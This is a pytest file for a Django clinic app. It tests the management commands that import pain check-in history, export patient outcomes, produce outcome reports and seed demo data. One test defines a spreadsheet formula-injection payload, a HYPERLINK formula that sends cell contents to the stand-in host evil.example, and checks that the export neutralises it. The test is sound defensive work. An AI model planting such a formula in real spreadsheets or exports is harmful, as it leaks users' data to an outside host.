"""import_history, export_outcomes, outcome_report and seed_demo, as clinics script them."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from accounts.models import Clinic, Patient, Therapist, User
from audit.models import AuditEvent
from careplans.models import CarePlan, PlanStatus
from checkins.models import PainCheckIn
from outcomes.models import OutcomeSnapshot
from tests.helpers import make_plan
from tests.outcomes.oracle import outcome_from_readings

pytestmark = pytest.mark.django_db
HEADER = "clinic,therapist_email,patient_email,patient_name,timezone,plan_title,plan_start,date,nprs"


def history(tmp_path: Path, lines: list[str], name: str = "history.csv") -> Path:
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *lines]) + "\n")
    return path


def day(start: date, n: int) -> str:
    return (start + timedelta(days=n)).isoformat()


def sample(tmp_path: Path) -> tuple[Path, date, dict[str, list[tuple[int, int]]]]:
    """Two patients: Ann (week 1 and week 12, a replaced day) and Bo (plan still under way)."""
    old = timezone.localdate() - timedelta(days=120)
    new = timezone.localdate() - timedelta(days=20)
    ann = [(0, 8), (1, 7), (2, 9), (78, 3), (79, 4)]
    bo = [(0, 5), (10, 6)]
    lines = [
        f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{old},{day(old, d)},{v}"
        for d, v in ann
    ]
    # Ann's day 2 again, later in the file: 9 -> 6 wins.
    lines.append(f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{old},{day(old, 2)},6")
    lines += [
        f"Lakeside,tess@lake.test,bo@x.test,Bo Birch,America/New_York,Neck plan,{new},{day(new, d)},{v}"
        for d, v in bo
    ]
    ann[2] = (2, 6)
    return history(tmp_path, lines), old, {"ann@x.test": ann, "bo@x.test": bo}


def run(*args: Any) -> str:
    out = io.StringIO()
    extra = {"no_progress": True} if args[0] == "import_history" else {}
    call_command(*args, stdout=out, **extra)
    return out.getvalue()


def test_import_creates_everything_and_export_round_trips(tmp_path: Path) -> None:
    path, old, readings = sample(tmp_path)
    summary = run("import_history", str(path))
    assert "Imported history.csv: 8 rows." in summary
    assert "clinics created: 1" in summary and "patients created: 2" in summary
    assert "plans created: 2" in summary and "check-ins created: 7" in summary
    assert "rows replaced by a later row for the same day: 1" in summary
    assert Clinic.objects.filter(name="Lakeside").count() == 1
    assert Therapist.objects.get(user__email="tess@lake.test").clinic.name == "Lakeside"
    assert Patient.objects.get(user__email="bo@x.test").timezone == "America/New_York"
    assert CarePlan.objects.get(title="Back plan").status == PlanStatus.COMPLETED
    assert CarePlan.objects.get(title="Neck plan").status == PlanStatus.ACTIVE
    assert (
        PainCheckIn.objects.get(patient__user__email="ann@x.test", local_date=old + timedelta(days=2)).nprs
        == 6
    )
    assert OutcomeSnapshot.objects.count() == 2

    rows = {
        r["patient_email"]: r
        for r in csv.DictReader(io.StringIO(run("export_outcomes", "--clinic", "Lakeside")))
    }
    ann = outcome_from_readings(readings["ann@x.test"], today_day=120)
    assert rows["ann@x.test"]["baseline"] == f"{ann.baseline:.2f}" == "7.00"
    assert rows["ann@x.test"]["endpoint"] == "3.50"
    assert rows["ann@x.test"]["change"] == "-3.50" and rows["ann@x.test"]["percent_change"] == "-50.00"
    assert rows["ann@x.test"]["responder"] == "true" and rows["ann@x.test"]["reached_week_12"] == "true"
    assert rows["bo@x.test"]["endpoint"] == "" and rows["bo@x.test"]["responder"] == ""
    assert (
        rows["bo@x.test"]["reached_week_12"] == "false" and rows["bo@x.test"]["missing_endpoint"] == "false"
    )
    assert rows["bo@x.test"]["plan_start"] == (timezone.localdate() - timedelta(days=20)).isoformat()

    data = json.loads(run("export_outcomes", "--format", "json"))
    by_email = {r["patient_email"]: r for r in data}
    assert by_email["ann@x.test"]["percent_change"] == -50.0 and by_email["ann@x.test"]["responder"] is True
    assert by_email["bo@x.test"]["endpoint"] is None and by_email["bo@x.test"]["worsening"] is False


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def test_export_neutralises_a_formula_in_a_plan_title_and_keeps_numbers(tmp_path: Path) -> None:
    path, _, _ = sample(tmp_path)
    run("import_history", str(path))
    CarePlan.objects.filter(title="Back plan").update(title=FORMULA)
    CarePlan.objects.filter(title="Neck plan").update(title="-2.5 sessions, +1 @home")
    rows = {r["patient_email"]: r for r in csv.DictReader(io.StringIO(run("export_outcomes")))}
    assert rows["ann@x.test"]["plan_title"] == "'" + FORMULA
    # Text that merely looks like a number is still text; computed figures stay numbers.
    assert rows["bo@x.test"]["plan_title"] == "'-2.5 sessions, +1 @home"
    assert rows["ann@x.test"]["change"] == "-3.50" and rows["ann@x.test"]["percent_change"] == "-50.00"
    # JSON is not read by spreadsheets: the title is kept as written.
    data = {r["patient_email"]: r for r in json.loads(run("export_outcomes", "--format", "json"))}
    assert data["ann@x.test"]["plan_title"] == FORMULA


def test_an_export_is_in_each_exported_clinics_audit_trail(tmp_path: Path) -> None:
    path, _, _ = sample(tmp_path)
    run("import_history", str(path))
    run("export_outcomes", "--format", "json")
    [event] = AuditEvent.objects.filter(action="outcomes.exported")
    assert event.clinic == Clinic.objects.get(name="Lakeside")
    assert event.data == {"plans": 2, "format": "json", "to": "stdout", "by": "manage.py export_outcomes"}


def test_export_to_a_file_starts_with_a_byte_order_mark_and_stdout_does_not(tmp_path: Path) -> None:
    path, _, _ = sample(tmp_path)
    run("import_history", str(path))
    Clinic.objects.filter(name="Lakeside").update(name="Zoë Łącka Physio")
    out = tmp_path / "outcomes.csv"
    assert run("export_outcomes", "--output", str(out)) == ""
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfclinic,patient_email,")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert {r["clinic"] for r in rows} == {"Zoë Łącka Physio"} and len(rows) == 2

    piped = run("export_outcomes")
    assert piped.startswith("clinic,patient_email,") and "Zoë Łącka Physio" in piped
    assert run("export_outcomes", "--bom").startswith("\ufeffclinic,")
    run("export_outcomes", "--output", str(out), "--no-bom")
    assert out.read_bytes().startswith(b"clinic,")
    run("export_outcomes", "--output", str(out), "--format", "json")
    assert {r["clinic"] for r in json.loads(out.read_text(encoding="utf-8"))} == {"Zoë Łącka Physio"}


def test_export_refuses_a_bom_for_json_and_an_unwritable_file(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="CSV only"):
        run("export_outcomes", "--format", "json", "--bom")
    with pytest.raises(CommandError, match="Cannot write"):
        run("export_outcomes", "--output", str(tmp_path / "missing-dir" / "x.csv"))


def test_importing_the_same_file_twice_changes_nothing(tmp_path: Path) -> None:
    path, _, _ = sample(tmp_path)
    run("import_history", str(path))
    counts = (User.objects.count(), CarePlan.objects.count(), PainCheckIn.objects.count())
    values = sorted(PainCheckIn.objects.values_list("local_date", "nprs"))
    audit = AuditEvent.objects.exclude(action="history.imported").count()
    summary = run("import_history", str(path))
    assert "check-ins created: 0" in summary and "check-ins replaced: 0" in summary
    assert "check-ins unchanged: 7" in summary and "plans created: 0" in summary
    assert (User.objects.count(), CarePlan.objects.count(), PainCheckIn.objects.count()) == counts
    assert sorted(PainCheckIn.objects.values_list("local_date", "nprs")) == values
    assert AuditEvent.objects.exclude(action="history.imported").count() == audit


def test_a_changed_value_replaces_the_check_in_and_is_audited(tmp_path: Path) -> None:
    path, old, _ = sample(tmp_path)
    run("import_history", str(path))
    fix = history(
        tmp_path,
        [f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{old},{day(old, 0)},5"],
        "fix.csv",
    )
    assert "check-ins replaced: 1" in run("import_history", str(fix))
    checkin = PainCheckIn.objects.get(patient__user__email="ann@x.test", local_date=old)
    assert checkin.nprs == 5
    event = AuditEvent.objects.get(action="checkin.replaced")
    assert event.data["before"]["nprs"] == 8 and event.data["after"]["nprs"] == 5


def test_a_bad_file_lists_every_bad_line_and_writes_nothing(tmp_path: Path) -> None:
    start = timezone.localdate() - timedelta(days=30)
    ok = f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{start},{day(start, 1)},5"
    path = history(
        tmp_path,
        [
            ok,
            f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Mars/Olympus,Back plan,{start},{day(start, 2)},5",
            f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{start},{day(start, 3)},11",
            f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{start},{day(start, 4)},4.5",
            f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{start},{day(start, -1)},5",
            f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{start},2026-13-40,5",
            f"Lakeside,tess@lake.test,ann@x.test,Ann Ash,Europe/London,Back plan,{start}",
            ok,
        ],
    )
    with pytest.raises(CommandError) as caught:
        run("import_history", str(path))
    message = str(caught.value)
    assert "6 bad line(s), nothing imported" in message
    assert "line 3: unknown time zone 'Mars/Olympus'" in message
    assert "line 4: nprs 11 is outside 0-10" in message
    assert "line 5: nprs '4.5' is not a whole number" in message
    assert "line 6: date" in message and "is before the plan start" in message
    assert "line 7: date '2026-13-40' is not a date" in message
    assert "line 8: expected 9 columns, found 7" in message
    assert "line 2:" not in message and "line 9:" not in message
    assert not Clinic.objects.filter(name="Lakeside").exists()
    assert not User.objects.filter(email="ann@x.test").exists()
    assert PainCheckIn.objects.count() == 0


def test_a_wrong_header_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("clinic,patient,date,nprs\nA,b@x.test,2026-01-01,5\n")
    with pytest.raises(CommandError, match="line 1: the header must be exactly"):
        run("import_history", str(path))


def test_a_patient_of_another_clinic_is_refused(tmp_path: Path, personas: Any) -> None:
    start = timezone.localdate() - timedelta(days=30)
    email = personas.patient_a.user.email
    path = history(tmp_path, [f"Elsewhere,t@e.test,{email},Ada,Europe/London,Plan,{start},{start},5"])
    with pytest.raises(CommandError, match="belongs to another clinic"):
        run("import_history", str(path))
    assert not Clinic.objects.filter(name="Elsewhere").exists()


def test_outcome_report_command_text_and_json(tmp_path: Path) -> None:
    path, _, _ = sample(tmp_path)
    run("import_history", str(path))
    data = json.loads(run("outcome_report", "--clinic", "Lakeside", "--format", "json"))
    assert data["overall"]["plans_reached_week_12"] == 1
    assert data["overall"]["percent_change"]["mean"] == -50.0
    assert data["overall"]["responders_intention_to_treat"]["percent"] == 100.0
    # One plan: Wilson's interval of 1/1 is 20.65% to 100%.
    assert data["overall"]["responders_intention_to_treat"]["ci95"] == [20.65, 100.0]
    assert data["by_therapist"][0]["group"] == "tess"
    assert "Completers" in data["definitions"] and "control group" in data["caveat"]
    text = run("outcome_report", "--clinic", "Lakeside")
    assert "intention to treat:                1" in text
    with pytest.raises(CommandError):
        run("outcome_report", "--clinic", "Nowhere")


def test_seed_demo_writes_plans_check_ins_and_snapshots() -> None:
    out = io.StringIO()
    call_command("seed_demo", patients=30, no_progress=True, stdout=out)
    assert "30 patients, 30 plans" in out.getvalue()
    assert Patient.objects.count() == 30 and CarePlan.objects.count() == 30
    assert OutcomeSnapshot.objects.count() == 30
    assert PainCheckIn.objects.count() > 30 * 20
    # Ids were assigned by the seeder: the next ordinary insert must not collide.
    call_command("seed_demo", patients=3, dense=True, no_progress=True, stdout=io.StringIO())
    assert PainCheckIn.objects.filter(plan__patient__user__email__startswith="p0.").count() >= 84


def test_seed_demo_under_way_sets_the_share_of_active_plans() -> None:
    call_command("seed_demo", patients=40, under_way=1.0, no_progress=True, stdout=io.StringIO())
    assert CarePlan.objects.filter(status=PlanStatus.ACTIVE).count() == 40
    call_command("seed_demo", patients=20, under_way=0.0, no_progress=True, stdout=io.StringIO())
    assert CarePlan.objects.filter(status=PlanStatus.ACTIVE).count() == 40
    with pytest.raises(CommandError, match="--under-way must be between 0 and 1"):
        call_command("seed_demo", patients=1, under_way=1.5, stdout=io.StringIO())


def test_a_second_active_plan_for_a_patient_is_refused(tmp_path: Path, personas: Any) -> None:
    from tests.factories import CarePlanFactory

    CarePlanFactory(patient=personas.patient_a, therapist=personas.owner)
    start = timezone.localdate() - timedelta(days=10)
    email = personas.patient_a.user.email
    owner = personas.owner.user.email
    path = history(
        tmp_path, [f"Northside Physio,{owner},{email},Ada,Europe/London,New plan,{start},{start},5"]
    )
    with pytest.raises(CommandError, match=r"line 2: patient .* would have more than one active plan"):
        run("import_history", str(path))
    assert not CarePlan.objects.filter(title="New plan").exists()


def test_the_export_leaves_out_draft_plans(personas: Any) -> None:
    """The newcomer's report: a plan still being built (a draft, never given to the patient)
    was exported as ``baseline_forming``."""
    active = make_plan(personas.patient_a, therapist=personas.owner)
    draft = make_plan(personas.patient_b, therapist=personas.owner, status=PlanStatus.DRAFT)
    out = io.StringIO()
    call_command("export_outcomes", "--format", "json", stdout=out)
    exported = {row["patient_email"] for row in json.loads(out.getvalue())}
    assert active.patient.user.email in exported and draft.patient.user.email not in exported
